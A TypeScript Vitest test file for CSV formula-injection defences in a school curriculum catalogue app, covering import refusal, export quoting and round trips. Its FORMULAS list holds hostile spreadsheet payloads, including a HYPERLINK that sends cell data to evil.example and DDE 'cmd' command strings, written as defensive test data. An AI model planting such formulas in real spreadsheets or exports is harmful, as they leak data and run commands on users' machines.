// @vitest-environment node
/**
 * CSV injection: formula cells are refused on import and neutralised on export, while real objective
 * codes and texts — the whole shipped curriculum, and texts that start with a dash as a list marker —
 * pass, and an export imports back with every text unchanged.
 */
import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { describe, expect, it } from 'vitest'
import type { CatalogueObjective } from '@/domain/catalogue/model'
import { validateRow, type ImportDefaults } from '@/domain/catalogue/rows'
import { isSpreadsheetFormula, quoteCell, unquoteCell } from '@/domain/text/spreadsheetFormula'
import { decodeTableFile, exportCsv, parseTable } from '@/exchange/catalogueCsv'

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Нажмите")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '-2+3*4',
  '-A1*10',
  '-$B$2',
  '- 2 + 3',
  '-HYPERLINK("http://evil.example")',
  '-SUM(A1:A3)',
  '+7',
  '@home',
  '  =1+1',
  '\t=1+1',
  '\r=1+1',
  '\r\n-2+3',
  '\u00a0+A1',
  '＝1+1',
]
const TEXTS = ['- оқиды', '-оқиды және жазады', '- read a short text', '- 2 оқушы жұппен жұмыс істейді', '-5', '-10%', '−2+3 (минус)', '1-сынып', 'A1 деңгейі', "'сөз", "it's", '2+3*4']

describe('which cells a spreadsheet runs', () => {
  it.each(FORMULAS)('formula: %j', (cell) => expect(isSpreadsheetFormula(cell)).toBe(true))
  it.each(TEXTS)('text: %j', (cell) => expect(isSpreadsheetFormula(cell)).toBe(false))

  it('takes no code, text, section or subject of the shipped curriculum for a formula', () => {
    const dir = join(__dirname, '../../../src/data/curriculum')
    const cells: string[] = []
    for (const file of readdirSync(dir).filter((f) => f.endsWith('.json'))) {
      const data = JSON.parse(readFileSync(join(dir, file), 'utf8')) as { subject: Record<string, string>; sections: { title: string; objectives: { code: string; text: string }[] }[] }
      cells.push(...Object.values(data.subject))
      for (const s of data.sections) cells.push(s.title, ...s.objectives.flatMap((o) => [o.code, o.text]))
    }
    expect(cells.length).toBeGreaterThan(300)
    expect(cells.filter(isSpreadsheetFormula)).toEqual([])
  })

  it('quotes every cell that starts with a sign, and unquotes exactly what it quoted', () => {
    for (const cell of [...FORMULAS, ...TEXTS, "'=1", "''-x", "'", '']) {
      const quoted = quoteCell(cell)
      expect(isSpreadsheetFormula(quoted), cell).toBe(false)
      expect(unquoteCell(quoted), cell).toBe(cell)
    }
    expect(quoteCell('- оқиды')).toBe("'- оқиды")
    expect(quoteCell('7.2.1.1')).toBe('7.2.1.1')
    expect(unquoteCell("'сөз")).toBe("'сөз")
  })
})

describe('import refuses formula rows and names them', () => {
  const defaults: ImportDefaults = { subject: 'Физика', grade: 7, term: 1, language: 'kk', section: '' }
  it('refuses each formula in any column, and keeps dash-led texts', () => {
    const table = parseTable(['code\ttext\tsection', ...FORMULAS.map((f) => `7.1.1.1\t${f.replace(/[\t\r\n]/g, ' ')}\tБөлім`), '7.1.1.2\t- оқиды\tБөлім', `7.1.1.3\tмәтін\t${FORMULAS[0]}`].join('\n'))
    const results = table.rows.map((r) => validateRow(r, defaults))
    const refused = results.filter((r) => !r.ok)
    expect(refused.map((r) => r.line)).toEqual([...FORMULAS.map((_, i) => i + 2), FORMULAS.length + 3])
    expect(refused.every((r) => !r.ok && r.problems.every((p) => p.kind === 'formula'))).toBe(true)
    const kept = results.find((r) => r.line === FORMULAS.length + 2)
    expect(kept?.ok && kept.draft.text).toBe('- оқиды')
  })
})

describe('export neutralises formulas and imports back unchanged', () => {
  const base: CatalogueObjective = {
    id: 'x', code: '7.1.1.1', text: '', section: 'Бөлім', language: 'kk', subject: 'physics', subjectNames: { kk: 'Физика' },
    grade: 7, term: 1, origin: 'own', hidden: false, source: '', order: 0, updatedAt: 0,
  }
  const hostile = [...FORMULAS.filter((f) => f.trim() === f), ...TEXTS, "'=already quoted"].map((text, i) => ({ ...base, id: `o${i}`, code: `7.1.1.${i + 1}`, text }))

  it('writes no cell a spreadsheet would run', () => {
    const csv = exportCsv([...hostile, { ...base, section: '=HYPERLINK("x")', source: '@evil' }], (o) => o.subjectNames[o.language] ?? '')
    const cells = parseTable(csv).rows.flatMap((r) => Object.values(r.cells))
    expect(cells.filter((c) => isSpreadsheetFormula(c ?? ''))).toEqual([])
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Нажмите"")"`)
    expect(csv).toContain(`"'- оқиды"`)
  })

  it('round trip keeps every text identical', () => {
    const csv = exportCsv(hostile, (o) => o.subjectNames[o.language] ?? '')
    const back = parseTable(decodeTableFile(new TextEncoder().encode(csv)).text).rows.map((r) => validateRow(r, { subject: '', grade: null, term: null, language: null, section: '' }))
    expect(back.map((r) => (r.ok ? r.draft.text : r.problems))).toEqual(hostile.map((o) => o.text))
  })
})
